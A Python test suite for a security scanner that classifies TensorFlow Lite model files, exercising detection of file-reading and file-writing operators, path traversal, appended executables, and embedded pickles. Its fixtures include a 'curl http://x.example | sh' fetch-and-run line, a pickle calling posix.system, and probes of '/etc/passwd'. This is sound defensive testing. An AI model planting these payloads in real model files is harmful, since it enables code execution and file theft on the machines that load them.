"""TensorFlow Lite: the runtime's own operators compute, what a model brings or asks for may act."""

from __future__ import annotations

import io
import struct
import zipfile

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from assay.core.finding import Verdict
from assay.scanning.parsers.flatbuffers import BudgetError, FlatError, root
from scanning.container_making import COMMAND, ELF, judge
from scanning.flatbuffers_making import Number, Numbers, Raw, Table, Tables, flatbuffer
from scanning.tensorflow_making import text_value
from scanning.tflite_making import STRING, choosing, model, node_options, strings

NAME = "model.tflite"
CLEAN, SUSPICIOUS, MALICIOUS = Verdict.CLEAN, Verdict.SUSPICIOUS, Verdict.MALICIOUS


@pytest.mark.parametrize("name", ["model.tflite", "model.bin", "x"])
def test_an_ordinary_model_is_clean(name: str) -> None:
    judged = judge(model(), name)
    assert (judged.family, judged.verdict) == ("tflite", CLEAN), judged
    assert not judged.findings


@pytest.mark.parametrize(
    ("custom", "verdict", "rule"),
    [
        ("TFLite_Detection_PostProcess", CLEAN, "tflite.known-operator"),
        ("Convolution2DTransposeBias", CLEAN, "tflite.known-operator"),
        ("edgetpu-custom-op", CLEAN, "tflite.known-operator"),
        ("FlexSentencepieceOp", CLEAN, "tflite.known-operator"),
        ("LoadPlugin", SUSPICIOUS, "tflite.custom-operator"),
        ("FlexEvilOp", SUSPICIOUS, "tflite.custom-operator"),
        ("FlexWriteFile", MALICIOUS, "tflite.acting-operator"),
        ("FlexPyFunc", MALICIOUS, "tflite.acting-operator"),
        ("FlexEagerPyFunc", MALICIOUS, "tflite.acting-operator"),
    ],
)
def test_custom_operators(custom: str, verdict: Verdict, rule: str) -> None:
    judged = judge(model(custom), NAME)
    assert (judged.verdict, judged.rules) == (verdict, {rule})


def test_an_operator_of_tensorflow_that_computes_is_clean() -> None:
    assert not judge(model("FlexTensorListReserve"), NAME).findings


def test_a_file_read_by_a_constant_or_by_what_the_caller_says() -> None:
    fixed = model("FlexReadFile", constant=strings("/etc/passwd"), constant_kind=STRING, inputs=[1])
    judged = judge(fixed, NAME)
    assert judged.verdict is MALICIOUS
    assert "/etc/passwd" in judged.findings[0].evidence
    assert judge(model("FlexReadFile", input_kind=STRING, inputs=[0]), NAME).verdict is MALICIOUS


def test_training_on_the_device_saves_where_its_caller_says() -> None:
    trained = model("FlexSave", input_kind=STRING, inputs=[0])
    assert judge(trained, NAME).verdict is SUSPICIOUS
    fixed = model("FlexSave", constant=strings("/etc/x"), constant_kind=STRING, inputs=[1])
    assert judge(fixed, NAME).verdict is MALICIOUS
    restored = model("FlexRestore", input_kind=STRING, inputs=[0])
    assert judge(restored, NAME).verdict is CLEAN


def test_attributes_of_an_operator_of_tensorflow_are_read() -> None:
    options = node_options("ImmutableConst", memory_region_name=text_value("/etc/passwd"))
    judged = judge(model("FlexImmutableConst", options=options), NAME)
    assert judged.verdict is MALICIOUS, judged
    harmless = node_options("PrintV2", output_stream=text_value("stderr"))
    assert judge(model("FlexPrintV2", options=harmless), NAME).verdict is CLEAN
    written = node_options("PrintV2", output_stream=text_value("file:///tmp/x"))
    assert judge(model("FlexPrintV2", options=written), NAME).verdict is MALICIOUS


@pytest.mark.parametrize(
    "data",
    [
        model(code=7),
        model(inputs=[0, 99]),
        model(buffer=99),
        model(buffers=[Table({1: Number(2**40, 8), 2: Number(16, 8)})]),
        model(more={6: Tables([Table({0: "m", 1: Number(77)})])}),
        flatbuffer(Table({0: Number(3), 2: Raw(1 << 30)}), b"TFL3"),
    ],
)
def test_references_to_what_is_not_there(data: bytes) -> None:
    judged = judge(data, NAME)
    assert "tflite.bounds" in judged.rules
    assert judged.verdict is MALICIOUS


@pytest.mark.parametrize(
    ("shape", "verdict"),
    [
        ((2**32 - 5,), MALICIOUS),
        ((2**31 - 1, 2**31 - 1, 4), MALICIOUS),
        ((0, 2**31 - 1, 2**31 - 1), MALICIOUS),
        ((2**32 - 1, 224, 224, 3), CLEAN),
        ((), CLEAN),
        ((1, 0), CLEAN),
    ],
)
def test_shapes_no_tensor_can_have(shape: tuple[int, ...], verdict: Verdict) -> None:
    judged = judge(model(shape=shape), NAME)
    assert judged.verdict is verdict, judged


def test_files_listed_on_a_device_are_malicious() -> None:
    listing = model("FlexMatchingFiles", options=node_options("MatchingFiles"), inputs=[1])
    assert judge(listing, NAME).verdict is MALICIOUS


def test_an_optional_input_is_none() -> None:
    assert judge(model(inputs=[0, 0xFFFFFFFF]), NAME).verdict is CLEAN


def test_programs_pickles_and_commands_inside() -> None:
    assert judge(model(constant=ELF), NAME).rules == {"tflite.executable"}
    assert "pickle.dangerous-import" in judge(model(constant=b"\x80\x02" + COMMAND), NAME).rules
    script = judge(model("LoadPlugin", options=b"#!/bin/sh\ncurl http://x.example | sh"), NAME)
    assert script.rules == {"tflite.custom-operator", "tflite.acting-text"}
    header = bytearray(ELF)
    header[52:54] = (64).to_bytes(2, "little")
    assert "tflite.executable" in judge(model() + bytes(header), NAME).rules
    assert judge(model() + bytes(10_000), NAME).rules == {"tflite.appended"}


def test_a_choice_by_one_exact_input_is_a_remark_and_no_alarm() -> None:
    judged = judge(choosing(bytes(range(16))), NAME)
    assert (judged.verdict, judged.rules) == (CLEAN, {"tflite.trigger"}), judged
    assert not judge(choosing(b"\0\0\0\0"), NAME).findings


@pytest.mark.parametrize(
    ("name", "verdict"),
    [("weights.bin", CLEAN), ("/etc/weights.bin", MALICIOUS), ("../../w.bin", MALICIOUS)],
)
def test_files_of_weights_are_below_the_model(name: str, verdict: Verdict) -> None:
    data = model(more={8: Tables([Table({0: name})])})
    assert judge(data, NAME).verdict is verdict


def with_files(**files: bytes) -> bytes:
    """As TensorFlow Lite Metadata writes: offsets count from the start of the file."""
    out = io.BytesIO(model())
    with zipfile.ZipFile(out, "a") as archive:
        for name, body in files.items():
            archive.writestr(zipfile.ZipInfo(name.replace("_", ".")), body)
    return out.getvalue()


def test_labels_that_follow_a_model_belong_to_it() -> None:
    judged = judge(with_files(labels_txt=b"cat\ndog\n"), NAME)
    assert (judged.verdict, judged.rules) == (CLEAN, set()), judged


def test_an_empty_archive_behind_a_model_is_clean() -> None:
    out = io.BytesIO(model())
    with zipfile.ZipFile(out, "a"):
        pass
    assert judge(out.getvalue(), NAME).verdict is CLEAN


def test_code_that_follows_a_model_is_no_label() -> None:
    assert "tflite.associated-code" in judge(with_files(hook_py=b"x = 1\n"), NAME).rules
    out = io.BytesIO(model())
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("__main__.py", "import os")
    assert judge(out.getvalue(), NAME).verdict is MALICIOUS
    with zipfile.ZipFile(out, "a") as archive:
        archive.writestr("model.pkl", b"\x80\x02" + COMMAND)
    assert "pickle.dangerous-import" in judge(out.getvalue(), NAME).rules


def test_a_model_that_is_a_pickle_from_its_first_byte() -> None:
    """A root offset whose bytes are a protocol and an opcode that takes the identifier."""
    whole = bytearray(model())
    ops = b"cposix\nsystem\n(S'true'\ntR."
    raw = b"\x80\x02\x8b\x00" + b"TFL3" + ops
    judged = judge(bytes(raw) + bytes(whole[8:]), NAME)
    assert judged.verdict is MALICIOUS


@pytest.mark.parametrize("size", range(1, len(model()) - 1))
def test_a_cut_model_is_never_clean(size: int) -> None:
    assert judge(model()[:size], NAME).verdict is not CLEAN


@settings(max_examples=200, deadline=None)
@given(st.data())
def test_any_change_of_a_byte_is_answered(data: st.DataObject) -> None:
    raw = bytearray(model("FlexReadFile", constant=strings("/a"), constant_kind=STRING))
    for _ in range(data.draw(st.integers(1, 4))):
        raw[data.draw(st.integers(0, len(raw) - 1))] = data.draw(st.integers(0, 255))
    assert judge(bytes(raw), NAME).verdict in Verdict


def test_shared_offsets_do_not_multiply_the_work() -> None:
    raw = flatbuffer(Table({0: Numbers(range(1000)), 1: Tables([Table({}), Table({})])}))
    table = root(raw, most_numbers=1500)
    list(table.numbers(0, 4))
    with pytest.raises(BudgetError):
        list(table.numbers(0, 4))
    few = root(raw, most_tables=2)
    with pytest.raises(BudgetError):
        list(few.tables(1))


@given(st.binary(max_size=300))
def test_any_bytes_are_a_flatbuffer_or_an_error(raw: bytes) -> None:
    try:
        table = root(raw)
        for field in range(4):
            table.number(field, 4)
            table.text(field)
            list(table.tables(field))
    except FlatError as error:
        assert error.offset is not None


def test_the_writer_s_tables_are_read_back() -> None:
    raw = flatbuffer(
        Table({0: Number(7, 1), 2: "text", 3: Numbers([1, 2], 8), 4: Tables([Table({0: "in"})])}),
        b"ABCD",
    )
    table = root(raw, b"ABCD")
    assert (table.number(0, 1), table.number(1, 4, 9), table.text(2)) == (7, 9, "text")
    assert list(table.numbers(3, 8)) == [1, 2]
    assert [inner.text(0) for inner in table.tables(4)] == ["in"]
    assert table.reach <= len(raw)
    with pytest.raises(FlatError):
        root(raw, b"WXYZ")
    with pytest.raises(FlatError):
        root(struct.pack("<I", 0) + raw[4:])
